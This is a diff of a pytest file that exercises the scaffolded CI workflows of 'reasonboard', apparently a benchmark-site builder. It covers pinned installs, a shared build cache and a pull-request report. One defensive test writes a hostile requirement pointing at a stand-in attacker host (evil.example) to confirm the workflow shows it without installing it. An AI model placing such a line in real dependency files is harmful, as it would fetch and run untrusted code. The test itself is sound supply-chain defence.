@@ -1,4 +1,4 @@
-"""reasonboard as a lab uses it (issue 11, "Done when"): the wheel installed into a fresh venv
+"""reasonboard as a lab uses it: the wheel installed into a fresh venv
 outside the repository, run from empty directories, never from the checkout.
 
 * a project made by `reasonboard init`, with the lab's own data, branding and overrides;
@@ -23,6 +23,9 @@ from pathlib import Path
 import pytest
 from helpers_points import LAB_MODELS, write_lab_data
 from helpers_site import html_pages, parse
+
+#: Slow (builds and installs the wheel): deselected by the fast subset, `pytest -m "not slow"`.
+pytestmark = pytest.mark.slow
 
 yaml = pytest.importorskip("yaml", reason="PyYAML is in the test extra: pip install -e '.[test]'")
 
@@ -154,21 +157,31 @@ def steps(workflow: dict) -> list[dict]:
 
 
 INSTALL = "python -m pip install -r requirements.txt"
+#: The pull request's report: the base branch's pin for both sides, never the head's.
+INSTALL_BASE = "python -m pip install -r base/requirements.txt"
 
 
 def run_steps(installed, workflow: Path, workspace: Path, summary: Path) -> list[str]:
-    """Run every `run:` step in order, as the runner would (bash -e, in the step's directory);
-    the install step is the one pinned requirement, replaced by the locally built wheel."""
+    """Run every `run:` step in order, as the runner would (bash -e, in the step's directory,
+    with a `$RUNNER_TEMP` beside the workspace); the install step is the one pinned
+    requirement, replaced by the locally built wheel."""
+    runner_temp = summary.parent / "runner-temp"
+    runner_temp.mkdir(exist_ok=True)
     ran = []
+    runner_temp = workspace.parent / "runner-temp"  # the runner's $RUNNER_TEMP (the build cache lives there)
+    runner_temp.mkdir(exist_ok=True)
     for step in steps(load(workflow)):
         if "run" not in step:
             continue
+        condition = step.get("if")  # only `hashFiles('GLOB') != ''`, as GitHub reads it
+        if condition is not None and not any(workspace.glob(condition.split("'")[1])):
+            continue
         script = step["run"]
-        if script.strip() == INSTALL:
+        if script.strip() in (INSTALL, INSTALL_BASE):
             script = f"python -m pip install -q --no-deps {shlex.quote(str(installed.wheel))}"
-        cwd = workspace / step.get("working-directory", ".")
+        cwd = workspace / step.get("working-directory", ".").replace("${{ runner.temp }}", str(runner_temp))
         result = subprocess.run(["bash", "-e", "-c", script], cwd=cwd, capture_output=True, text=True, timeout=900,
-                                env=installed.env(GITHUB_STEP_SUMMARY=str(summary)))
+                                env=installed.env(GITHUB_STEP_SUMMARY=str(summary), RUNNER_TEMP=str(runner_temp)))
         assert result.returncode == 0, f"{workflow.name}: step {step['name']!r} failed:\n{result.stdout}\n{result.stderr}"
         ran.append(step["name"])
     return ran
@@ -178,15 +191,24 @@ def test_the_scaffolded_workflows_install_one_pinned_requirement(installed, tmp_
     """Both workflows work in a repository of data and config: no `pip install -e .`, the
     pip cache keyed by requirements.txt, the same install line on both sides of a PR."""
     lab = init_lab(installed, tmp_path)
-    for name in ("pages.yml", "pr-report.yml"):
+    for name, install, pins in (("pages.yml", INSTALL, "requirements.txt"),
+                                ("pr-report.yml", INSTALL_BASE, "base/requirements.txt")):
         workflow = load(lab / ".github" / "workflows" / name)
         runs = [s["run"].strip() for s in steps(workflow) if "run" in s]
         installs = [r for r in runs if "pip" in r]
-        assert installs == [INSTALL], (name, installs)
+        assert installs == [install], (name, installs)
         setup = next(s for s in steps(workflow) if s.get("uses", "").startswith("actions/setup-python@"))
-        assert setup["with"]["cache"] == "pip" and setup["with"]["cache-dependency-path"] == "requirements.txt"
-        assert (lab / setup["with"]["cache-dependency-path"]).is_file()
+        assert setup["with"]["cache"] == "pip" and setup["with"]["cache-dependency-path"] == pins
         assert all("${{" not in r for r in runs), name  # values reach scripts via env only
+        # One build cache, restored and saved by actions/cache keyed by the tool and the
+        # inputs; every build of the workflow uses it.
+        cache = next(s for s in steps(workflow) if s.get("uses", "").startswith("actions/cache@"))
+        # The build cache and this runner's salt (cachekey.py) travel together: entries
+        # named with another salt would never be read.
+        assert cache["with"]["path"].splitlines() == ["${{ runner.temp }}/reasonboard-cache", "~/.cache/reasonboard"]
+        assert f"hashFiles('{pins}')" in cache["with"]["key"] and "data/**" in cache["with"]["key"]
+        builds = [r for r in runs if r.startswith("reasonboard build")]
+        assert builds and all('--cache "$RUNNER_TEMP/reasonboard-cache"' in r for r in builds), (name, builds)
 
 
 def test_the_scaffolded_pages_workflow_builds_the_site(installed, tmp_path):
@@ -201,19 +223,30 @@ def test_the_scaffolded_pages_workflow_builds_the_site(installed, tmp_path):
 
 
 def test_the_scaffolded_pr_workflow_reports_both_sides(installed, tmp_path):
-    """The head is the scaffolded project with new data; the base checkout (`base/`) holds
-    the same project before the pull request, as actions/checkout would place it."""
+    """The workspace holds the two checkouts, `base/` and `head/`, as actions/checkout
+    places them: the head is the base with new data and a changed requirements.txt, which
+    the report shows and nothing installs."""
     lab = init_lab(installed, tmp_path, seed=0)
-    base = lab / "base"
-    shutil.copytree(lab, base, ignore=shutil.ignore_patterns("base"))
+    workspace = tmp_path / "workspace"
+    base, head = workspace / "base", workspace / "head"
+    shutil.copytree(lab, base)
+    shutil.copytree(lab, head)
     write_lab_data(base / "data", seed=1, models=LAB_MODELS[:4])  # the PR adds a model and new points
+    (head / "requirements.txt").write_text("reasonboard @ https://evil.example/reasonboard.whl\n", encoding="utf-8")
     summary = tmp_path / "summary.md"
     summary.write_text("", encoding="utf-8")
-    ran = run_steps(installed, lab / ".github" / "workflows" / "pr-report.yml", lab, summary)
+    ran = run_steps(installed, lab / ".github" / "workflows" / "pr-report.yml", workspace, summary)
     assert ran == ["Install reasonboard", "Build the base site", "Build the head site", "Compare base and head",
-                   "Job summary"]
-    report = (lab / "report.md").read_text(encoding="utf-8")
+                   "Show a changed requirements.txt", "Job summary"]
+    report = (tmp_path / "runner-temp" / "report" / "report.md").read_text(encoding="utf-8")
     assert report.startswith("## Score changes: base-site → head-site\n")
     assert "Elm 120B" in report  # the model the pull request adds
+    assert "changes requirements.txt" in report and "evil.example" in report  # shown, not installed
     assert summary.read_text(encoding="utf-8") == report
+    assert sorted(p.name for p in workspace.iterdir()) == ["base", "head"]  # nothing written in the checkout
     assert "STATISTICS.md" not in report  # a lab has no such file: the report cites the methodology page
+    # Both builds used the one cache the workflow restores and saves (actions/cache): one
+    # PointsDB, named by the code that wrote it, and nothing in either checkout.
+    cache = tmp_path / "runner-temp" / "reasonboard-cache"
+    assert len(list(cache.glob("pointsdb-*.duckdb"))) == 1 and list(cache.glob("statistics-*.npz"))
+    assert not (lab / ".reasonboard-cache").exists() and not (base / ".reasonboard-cache").exists()
